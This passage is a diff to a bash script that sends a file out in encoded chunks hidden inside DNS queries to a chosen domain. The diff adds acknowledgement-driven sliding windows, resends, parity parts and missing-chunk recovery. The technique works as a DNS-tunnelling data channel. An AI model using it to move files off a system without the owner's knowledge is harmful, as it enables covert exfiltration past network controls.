+    START_ACK=$(dns_query "$START_QUERY" TXT | tr -d '"')
+    if [ "$QTYPE" = "AUTO" ]; then
+        QTYPE=TXT
+        if [ "${START_ACK%% *}" != "OK" ] && [ -n "$(dns_query "$START_QUERY" A | address_ack)" ]; then
+            echo "No TXT answer from the resolver, falling back to A queries"
+            QTYPE=A
+        fi
+    fi
 fi
 sleep 0.1
 
@@ -93,43 +806,104 @@ send_dns_query() {
     local dns_server=$6
     local file=$7
     
-    # Read chunk and encode to hex in one step (avoid null byte warning)
-    local chunk_hex=$(dd if="$file" bs=1 skip=$chunk_offset count=$chunk_size 2>/dev/null | xxd -p | tr -d '\n')
+    # Read chunk and encode in one step (avoid null byte warning)
+    local chunk_enc=$(dd if="$file" bs=1 skip=$chunk_offset count=$chunk_size 2>/dev/null | encode_data)
     
-    # Split hex into DNS labels
-    local chunk_hex_labels=$(split_hex_labels "$chunk_hex")
+    # Split encoded data into DNS labels
+    local chunk_labels=$(split_labels "$chunk_enc")
     
     # Build data record query
-    # Format: data_hex.part_num.hash8.<domain>
-    local data_query="${chunk_hex_labels}.${part_num}.${hash8}.${domain}"
+    # Format: data_enc[.m-<tag>].part_num.hash8.<domain>
+    local tag=$(record_tag "${chunk_labels}.${part_num}.${hash8}.${domain}")
+    local data_query="${chunk_labels}${tag}.${part_num}.${hash8}.${domain}"
     
-    # Send DNS query
-    if [ -z "$dns_server" ]; then
-        dig +short "$data_query" TXT > /dev/null 2>&1 || true
+    # Send DNS query and record the server's acknowledgement
+    # ("OK <contiguous> <outstanding>") for the send window
+    if [ "$QTYPE" = "A" ]; then
+        DNS_SERVER="$dns_server" dns_query "$data_query" A | address_ack >> "$ACK_FILE"
     else
-        dig +short @"$dns_server" "$data_query" TXT > /dev/null 2>&1 || true
+        DNS_SERVER="$dns_server" dns_query "$data_query" TXT | tr -d '"' >> "$ACK_FILE"
     fi
 }
 
+# Print the highest contiguous part the server has acknowledged, or -1 if the
+# server only answers a plain "OK" (no acknowledgements to slide the window on)
+ack_contiguous() {
+    awk '$1 == "OK" && $2 ~ /^[0-9]+$/ { if ($2 > max) max = $2; acked = 1 }
+         $1 == "OK" && NF == 1 { plain = 1 }
+         END { if (plain && !acked) print -1; else print max + 0 }' "$ACK_FILE"
+}
+
 # Read file and send chunks in parallel (1-based part numbering)
-echo "Sending chunks in parallel (max $MAX_PARALLEL concurrent queries)..."
+# Sliding window: a part is only sent once it is within WINDOW parts of the
+# server's contiguous high-water mark. The window grows by one part each time
+# the mark advances; when the mark stalls for STALL_TIMEOUT seconds, the part
+# after it is resent and the window halved.
+ACK_FILE=$(mktemp)
+TMP_FILES="$TMP_FILES $ACK_FILE"
+WINDOW=$MAX_PARALLEL
+MAX_WINDOW=${MAX_WINDOW:-$((MAX_PARALLEL * 4))}
+STALL_TIMEOUT=${STALL_TIMEOUT:-2}
+
+echo "Sending chunks in parallel (max $MAX_PARALLEL concurrent queries, window $WINDOW-$MAX_WINDOW parts)..."
 PART_NUM=1
-BYTES_READ=0
-JOBS=0
+CONTIGUOUS=0
+LAST_ADVANCE=$(date +%s)
 
-while [ $BYTES_READ -lt $FILE_SIZE ]; do
+while [ $PART_NUM -le $TOTAL_PARTS ]; do
     # Wait if we've reached max parallel jobs
     while [ $(jobs -r | wc -l) -ge $MAX_PARALLEL ]; do
         sleep 0.01
     done
+
+    ACKED=$(ack_contiguous)
+    if [ "$ACKED" -lt 0 ]; then
+        # Server doesn't acknowledge progress, send without a window
+        WINDOW=$TOTAL_PARTS
+    elif [ "$ACKED" -gt $CONTIGUOUS ]; then
+        CONTIGUOUS=$ACKED
+        LAST_ADVANCE=$(date +%s)
+        if [ $WINDOW -lt $MAX_WINDOW ]; then
+            WINDOW=$((WINDOW + 1))
+        fi
+    fi
+
+    if [ $PART_NUM -gt $((CONTIGUOUS + WINDOW)) ]; then
+        if [ $(( $(date +%s) - LAST_ADVANCE )) -ge $STALL_TIMEOUT ]; then
+            # The part after the mark was probably lost: resend it and back off
+            WINDOW=$((WINDOW / 2))
+            if [ $WINDOW -lt 1 ]; then
+                WINDOW=1
+            fi
+            LOST=$((CONTIGUOUS + 1))
+            echo "Window stalled at part $CONTIGUOUS, resending part $LOST (window $WINDOW)"
+            (
+                send_dns_query "$LOST" "$(((LOST - 1) * CHUNK_SIZE))" "$CHUNK_SIZE" "$HASH8" "$DOMAIN" "$DNS_SERVER" "$PAYLOAD"
+            ) &
+            LAST_ADVANCE=$(date +%s)
+        else
+            sleep 0.05
+        fi
+        continue
+    fi
     
     # Start DNS query in background
     (
-        send_dns_query "$PART_NUM" "$BYTES_READ" "$CHUNK_SIZE" "$HASH8" "$DOMAIN" "$DNS_SERVER" "$FILE"
+        send_dns_query "$PART_NUM" "$(((PART_NUM - 1) * CHUNK_SIZE))" "$CHUNK_SIZE" "$HASH8" "$DOMAIN" "$DNS_SERVER" "$PAYLOAD"
         echo "Part $PART_NUM/$TOTAL_PARTS sent"
     ) &
+
+    # Follow a finished group with its parity parts
+    if [ $PARITY_PARTS -gt 0 ] && { [ $((PART_NUM % FEC_DATA)) -eq 0 ] || [ $PART_NUM -eq $TOTAL_PARTS ]; }; then
+        GROUP=$(( (PART_NUM - 1) / FEC_DATA ))
+        for j in $(seq 0 $((FEC_PARITY - 1))); do
+            PARITY_INDEX=$((GROUP * FEC_PARITY + j))
+            (
+                send_dns_query "$((TOTAL_PARTS + PARITY_INDEX + 1))" "$((PARITY_INDEX * CHUNK_SIZE))" "$CHUNK_SIZE" "$HASH8" "$DOMAIN" "$DNS_SERVER" "$PARITY_FILE"
+            ) &
+        done
+    fi
     
-    BYTES_READ=$((BYTES_READ + CHUNK_SIZE))
     PART_NUM=$((PART_NUM + 1))
 done
 
@@ -147,20 +921,8 @@ while true; do
     sleep $RETRY_DELAY
     
     # Query for missing chunks with counter prefix to avoid DNS caching
-    MISSING_QUERY="${RETRY_COUNT}.missing.${HASH8}.${DOMAIN}"
     echo "Checking for missing chunks..."
-    
-    if [ -z "$DNS_SERVER" ]; then
-        MISSING_RESPONSE=$(dig +short "$MISSING_QUERY" TXT 2>/dev/null || echo "")
-    else
-        MISSING_RESPONSE=$(dig +short @"$DNS_SERVER" "$MISSING_QUERY" TXT 2>/dev/null || echo "")
-    fi
-    
-    # Parse missing chunk numbers from TXT records
-    # dig +short returns TXT records as quoted strings, one per line or space-separated
-    # Format can be: "123" or "123" "456" or multiple lines with "123"
-    # Extract all quoted numbers, handling both single-line and multi-line responses
-    MISSING_CHUNKS=$(echo "$MISSING_RESPONSE" | grep -oE '"[0-9]+"' | tr -d '"' | grep -E '^[0-9]+$' | sort -n | uniq)
+    MISSING_CHUNKS=$(missing_chunks "$RETRY_COUNT" "$HASH8")
     
     if [ -z "$MISSING_CHUNKS" ]; then
         echo "All chunks received successfully!"
@@ -185,7 +947,7 @@ while true; do
         
         # Start DNS query in background
         (
-            send_dns_query "$chunk_num" "$chunk_offset" "$CHUNK_SIZE" "$HASH8" "$DOMAIN" "$DNS_SERVER" "$FILE"
+            send_dns_query "$chunk_num" "$chunk_offset" "$CHUNK_SIZE" "$HASH8" "$DOMAIN" "$DNS_SERVER" "$PAYLOAD"
             echo "  Chunk $chunk_num retried"
         ) &
     done